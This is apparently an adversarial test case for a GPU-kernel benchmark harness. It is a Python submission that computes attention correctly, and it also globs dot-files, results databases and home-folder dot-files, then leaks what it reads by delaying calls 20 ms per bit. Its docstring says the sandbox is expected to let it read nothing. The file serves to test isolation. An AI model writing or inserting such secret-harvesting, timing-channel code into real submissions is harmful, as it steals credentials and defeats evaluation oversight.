"""Tries: read every secret it can (the checkout's dot-files beside the harness it imports, the other
files of its own folder, any database in the checkout's results/, the dot-files of every home folder)
and send it out through its own timings while passing every case: one bit per call, a call 20 ms
slower for a 1, read back from the samples of the JSON export, where no filter of text can see it.
Must get: passes; it reads nothing (its log: "read 0 bytes"), so its timings carry nothing secret. The
channel itself stays (a submission shapes its own timings: README, threat model)."""
import glob
import os
import time

import harness
import torch

checkout = os.path.dirname(os.path.dirname(os.path.abspath(harness.__file__)))
places = [os.path.join(checkout, ".*"), os.path.join(checkout, "results", "**", "*.db"),
          os.path.join(os.path.dirname(os.path.abspath(__file__)), "*"), "/root/.*", "/home/*/.*"]
secret = b""
for pattern in places:
    for path in glob.glob(pattern, recursive=True):
        if os.path.abspath(path) == os.path.abspath(__file__):
            continue
        try:
            with open(path, "rb") as f:
                secret += f.read(64)
        except OSError:
            pass
print(f"read {len(secret)} bytes", flush=True)
bits = [(byte >> i) & 1 for byte in secret for i in range(8)]
calls = 0


def custom_kernel(data):
    """The README's per-sequence loop over the bf16 cache (light on memory at every shape)."""
    global calls
    if bits and bits[calls % len(bits)]:
        time.sleep(0.02)
    calls += 1
    q, kv_data, qo_indptr, kv_indptr, config = data
    kv = kv_data["bf16"]
    out = torch.empty(q.shape[0], q.shape[1], 512, dtype=torch.bfloat16, device=q.device)
    qo, kvp = qo_indptr.tolist(), kv_indptr.tolist()
    for b in range(len(qo) - 1):
        k = kv[kvp[b]:kvp[b + 1], 0].float()
        s = torch.einsum("qhd,ld->qhl", q[qo[b]:qo[b + 1]].float(), k) * config["sm_scale"]
        out[qo[b]:qo[b + 1]] = (s.softmax(-1) @ k[:, :512]).to(torch.bfloat16)
    return out
